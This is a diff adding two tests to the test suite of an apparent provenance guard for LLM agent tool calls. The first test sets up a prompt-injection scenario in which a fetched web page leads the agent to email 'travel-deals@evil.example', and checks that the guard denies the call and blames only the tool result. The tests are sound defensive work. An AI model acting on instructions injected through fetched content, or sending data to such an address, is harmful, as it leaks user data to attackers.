@@ -193,3 +193,36 @@ async def test_nothing_is_prepared_for_rules_that_read_the_answer(tmp_path: Path
     assert prepared.response is None
     review = await guard.review(call, "the answer", prepared=prepared)
     assert review.response is not None and review.response.reason == "log: logged the answer"
+
+
+async def test_deny_reasons_name_only_the_untrusted_inputs_the_value_came_from(
+    guard: Guard,
+) -> None:
+    """Issue 19: the reason listed ``role:system, role:user`` as "untrusted sources"."""
+    inputs = [
+        InputSpec(text="You are a travel assistant.", role="system"),
+        InputSpec(text="Summarise this page for me."),
+        InputSpec(text=PAGE, kind=SourceKind.TOOL_RESULT, tool="fetch_url", role="tool"),
+    ]
+    call = LLMCall([guard.label_input(spec, agent="a") for spec in inputs])
+    review = await guard.review(call, "", [send_email("travel-deals@evil.example")], agent="a")
+    decision = review.tool_calls[0].decision
+    assert decision.action is Action.DENY
+    assert "tool:fetch_url" in decision.reason
+    assert "role:system" not in decision.reason and "role:user" not in decision.reason
+    prov = review.tool_calls[0].provenance["to"]
+    assert prov.kind == "verbatim" and prov.item_ids == [call.items[2].id]
+
+
+async def test_a_value_the_user_typed_stays_trusted_next_to_a_tool_result(guard: Guard) -> None:
+    """A recipient the user gave is trusted even though the page the user asked to read
+    holds it too; only values the page alone holds carry its label."""
+    page = f"{PAGE} Contact: carol@corp.example."
+    inputs = [
+        InputSpec(text=TRUSTED_NOTE),
+        InputSpec(text=page, kind=SourceKind.TOOL_RESULT, tool="fetch_url", role="tool"),
+    ]
+    call = LLMCall([guard.label_input(spec, agent="a") for spec in inputs])
+    review = await guard.review(call, "", [send_email("carol@corp.example")], agent="a")
+    to = review.tool_calls[0].provenance["to"]
+    assert to.label.integrity.name == "trusted" and to.item_ids == [call.items[0].id]
